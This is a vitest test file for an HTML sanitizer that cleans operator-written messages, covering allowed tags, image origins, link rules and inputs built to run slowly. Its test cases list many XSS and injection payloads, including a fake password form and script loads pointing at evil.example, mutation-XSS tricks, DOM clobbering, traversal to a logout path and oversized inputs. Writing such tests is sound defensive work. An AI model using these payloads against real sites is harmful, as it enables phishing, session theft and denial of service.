import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

const CDN = 'https://cdn.example'
const NONE = { origins: [], ownHosts: ['site.example', 'play.example:8443'] }
const FROM_CDN = { ...NONE, origins: [CDN, 'https://site.example'] }

describe('MSG-01, MSG-03 operator HTML', () => {
  test('keeps its text, its lists and its links', () => {
    const html = '<h2>Hi</h2><p>One <strong>two</strong></p><ul><li>three</li></ul><a href="/help?article=fees">a</a>'
    expect(cleanHtml(html, NONE)).toBe(html)
    expect(cleanHtml('<a href="https://a.example" onclick="x()" target=_blank rel="opener">a</a>', NONE)).toBe(
      '<a href="https://a.example">a</a>',
    )
  })

  test.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals', '<ScRiPt src=//evil.example></sCrIpT>'],
    ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['an unclosed script', '<script>alert(1)'],
    ['a handler', '<img src=x onerror=alert(1)>'],
    ['a handler without quotes or spaces', '<svg/onload=alert(1)>'],
    ['a handler after a slash', '<p/onmouseover=alert(1)>x</p>'],
    ['a form', '<form action="https://evil.example"><input name=password><button>Log in</button></form>'],
    ['a formaction', '<button formaction="javascript:alert(1)">x</button>'],
    ['a style', '<style>*{display:none}</style>'],
    ['a style attribute', '<p style="position:fixed;inset:0">x</p>'],
    ['a frame', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['an object', '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>'],
    ['a base', '<base href="https://evil.example/">'],
    ['a meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
    ['a link element', '<link rel=stylesheet href="https://evil.example/x.css">'],
    ['javascript:', '<a href="javascript:alert(1)">x</a>'],
    ['javascript: with a tab', '<a href="java&#x09;script:alert(1)">x</a>'],
    ['javascript: with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data:', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['http:', '<a href="http://evil.example">x</a>'],
    ['a link without a scheme to elsewhere', '<a href="//evil.example">x</a>'],
    ['an id that hides document.cookie', '<img name=cookie id=cookie><a id=location href="/x">x</a>'],
    ['a name that hides a form', '<a name=body>x</a>'],
    ['a class of ours', '<p class="fixed inset-0">x</p>'],
    ['MathML', '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
    ['SVG', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><script>alert(1)</script></svg>'],
    ['a template', '<template><script>alert(1)</script></template>'],
    ['a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['a textarea', '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>'],
    ['a comment', '<!--><img src=x onerror=alert(1)>-->'],
    ['a CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
    ['a picture from anywhere by srcset', '<img srcset="https://evil.example/x 1x">'],
  ])('loses %s', (_, html) => {
    const clean = cleanHtml(html, NONE)
    expect(clean).not.toMatch(
      /<(script|style|form|input|button|iframe|object|embed|base|meta|link|svg|math|template|noscript|textarea)\b/i,
    )
    // Of the tags that are left none has more than the attributes allowed, and no address but https, mail or our own.
    for (const [tag] of clean.matchAll(/<[a-z][^>]*>/gi)) {
      expect(tag).not.toMatch(/\s(on\w+|style|id|name|class|srcset|srcdoc|formaction|action|target)\s*=/i)
      for (const [, address] of tag.matchAll(/(?:href|src)="([^"]*)"/g)) {
        expect(address).toMatch(/^(https:\/\/|mailto:|\/(?!\/)|[^:/]*$)/)
        expect(address).not.toMatch(/script/i)
      }
    }
  })

  test.each([
    ['of the site', '<img src="/img/rank.png" alt="Rank">', '<img src="/img/rank.png" alt="Rank" />'],
    ['of the site with its host', '<img src="https://site.example/img/a.png?v=1">', '<img src="/img/a.png?v=1" />'],
    ['written in a roundabout way', '<img src="/img/x/../%2e/a.png#b">', '<img src="/img/a.png" />'],
    ['of a CDN of the merchant', `<img src="${CDN}/a.png" width="9">`, `<img src="${CDN}/a.png" width="9" />`],
  ])('keeps a picture %s', (_, html, clean) => expect(cleanHtml(html, FROM_CDN)).toBe(clean))

  test('knows a CDN that is written with its port, and a path of the site is no origin', () => {
    const html = `<img src="${CDN}/a.png" />`
    expect(cleanHtml(html, { ...NONE, origins: ['/static', `${CDN}:443`] })).toBe(html)
    expect(cleanHtml(html, { ...NONE, origins: ['/static', `${CDN}:8443`, 'https://cdn.example:99999'] })).toBe('')
  })

  test.each([
    ['another host', '<img src="https://pictures.example/a.png" alt="Rank &lt;1&gt;">'],
    ['a host that begins like the CDN', `<img src="${CDN}.evil.example/a.png" alt="Rank &lt;1&gt;">`],
    ['another port of the CDN', `<img src="${CDN}:8443/a.png" alt="Rank &lt;1&gt;">`],
    ['a name before the CDN', '<img src="https://cdn.example@evil.example/a.png" alt="Rank &lt;1&gt;">'],
    ['http', '<img src="http://cdn.example/a.png" alt="Rank &lt;1&gt;">'],
    ['no scheme', '<img src="//cdn.example/a.png" alt="Rank &lt;1&gt;">'],
    ['a path without a root', '<img src="a.png" alt="Rank &lt;1&gt;">'],
    ['a call', '<img src="/wps/session/logout" alt="Rank &lt;1&gt;">'],
    ['a call, from the site by name', '<img src="https://site.example/wps/x" alt="Rank &lt;1&gt;">'],
    ['a call, by name in capitals', '<img src="HTTPS://SITE.example:443/wps/x" alt="Rank &lt;1&gt;">'],
    ['a call, on another host of the site', '<img src="https://play.example:8443/wps/x" alt="Rank &lt;1&gt;">'],
    ['a call behind dot segments', '<img src="/img/../wps/x" alt="Rank &lt;1&gt;">'],
    ['a call behind written dot segments', '<img src="/img/%2e%2E/wps/x" alt="Rank &lt;1&gt;">'],
    ['a call behind a backslash', '<img src="/img\\..\\wps\\x" alt="Rank &lt;1&gt;">'],
    ['a call behind a written slash', '<img src="/img/..%2fwps%2Fx" alt="Rank &lt;1&gt;">'],
    ['a call behind a written backslash', '<img src="/img/..%5cwps" alt="Rank &lt;1&gt;">'],
    ['a call behind a tab', '<img src="/img/.&#9;./wps/x" alt="Rank &lt;1&gt;">'],
    ['a call behind an empty step', '<img src="/img//../../wps/x" alt="Rank &lt;1&gt;">'],
    ['a member’s files', '<img src="/files/1" alt="Rank &lt;1&gt;">'],
    ['a page', '<img src="/" alt="Rank &lt;1&gt;">'],
    ['a path that begins like pictures', '<img src="/imgs/a.png" alt="Rank &lt;1&gt;">'],
    ['another host behind a backslash', '<img src="/\\cdn.example/a.png" alt="Rank &lt;1&gt;">'],
    ['itself', '<img src="data:image/png;base64,AAAA" alt="Rank &lt;1&gt;">'],
    ['nowhere', '<img alt="Rank &lt;1&gt;">'],
  ])('says in words what a picture from %s shows, which no page would load', (_, html) =>
    expect(cleanHtml(`<p>Your ${html} now</p>`, FROM_CDN)).toBe('<p>Your <span>Rank &lt;1&gt;</span> now</p>'),
  )

  test('leaves nothing of such a picture without words', () => {
    expect(cleanHtml('<p>a<img src="https://pictures.example/a.png">b</p>', FROM_CDN)).toBe('<p>ab</p>')
  })

  test.each([
    [
      '<p><img src="a.png"> Read <a href="/help">the rules</a> and go on.</p>',
      '<p> Read <a href="/help">the rules</a> and go on.</p>',
    ],
    ['<img src="a.png" alt=""><h2>One</h2><p>Two</p>', '<h2>One</h2><p>Two</p>'],
    ['<img src="a.png" alt="Rank"><b>One</b> two', '<span>Rank</span><b>One</b> two'],
    ['<b><img src="//a"><img src="//b"></b><i>two</i>', '<b></b><i>two</i>'],
  ])('closes what stands behind such a picture as it began: %s', (html, clean) =>
    expect(cleanHtml(html, FROM_CDN)).toBe(clean),
  )

  test.each([
    ['a path', '/help?article=limits', true],
    ['another host', 'https://example.com/rules', true],
    ['a mailbox', 'mailto:help@example.com', true],
    ['a name before the host', 'https://meridian.example@evil.example/', false],
    ['a host without a scheme', '//evil.example/', false],
    ['a host behind a backslash', '/\\evil.example/', false],
    ['a path without a root', 'help', false],
  ])('a link to %s leads on, or is words', (_, href, leads) =>
    expect(cleanHtml(`<a href="${href}">Read</a>`, NONE)).toBe(leads ? `<a href="${href}">Read</a>` : '<a>Read</a>'),
  )

  test('loses no text behind such a picture, however deep it lies', () => {
    const picture = '<img alt="Rank" src="https://pictures.example/a.png">'
    for (const depth of [31, 32, 40]) {
      const html = `${'<div>'.repeat(depth)}before ${picture} behind${'</div>'.repeat(depth)}`
      expect(cleanHtml(html, FROM_CDN), String(depth)).toContain(' behind')
    }
  })

  test('takes no words of an operator for such a picture', () => {
    const html = '<p>&lt;img alt="x" /&gt;</p><img alt="&quot; /&gt;&lt;script&gt;" src="//x">'
    const words = '<p>&lt;img alt="x" /&gt;</p><span>&quot; /&gt;&lt;script&gt;</span>'
    expect(cleanHtml(html, FROM_CDN)).toBe(words)
  })

  const startedSoon = (html: string) => {
    const startedMs = performance.now()
    const clean = cleanHtml(html, NONE)
    return { clean, tookMs: performance.now() - startedMs }
  }
  /** Generous: the slowest takes under a second, what it guards against took over a minute. */
  const LIMIT_MS = 5_000

  test('10,000 levels end in a few, with the text', () => {
    const { clean, tookMs } = startedSoon(`${'<div><b>'.repeat(5_000)}deep${'</b></div>'.repeat(5_000)}`)
    expect(clean.match(/<(div|b)>/g)?.length ?? 0).toBeLessThanOrEqual(64)
    expect(clean).toContain('deep')
    expect(tookMs).toBeLessThan(LIMIT_MS)
  })

  test.each([
    ['text', 'word '.repeat(200_000)],
    ['handlers', '<img src=x onerror=alert(1)>'.repeat(36_000)],
    ['tags that are never closed', '<p><b><i>'.repeat(110_000)],
    ['angle brackets', '<'.repeat(1_000_000)],
    ['one attribute', `<a href="${'a'.repeat(1_000_000)}">x</a>`],
    ['attributes', `<a ${'x=1 '.repeat(250_000)}>x</a>`],
  ])('1 MB of %s is cleaned in the end', (_, html) => {
    const { clean, tookMs } = startedSoon(html)
    expect(clean).not.toMatch(/<[^>]*onerror/)
    expect(tookMs).toBeLessThan(LIMIT_MS)
  })
})
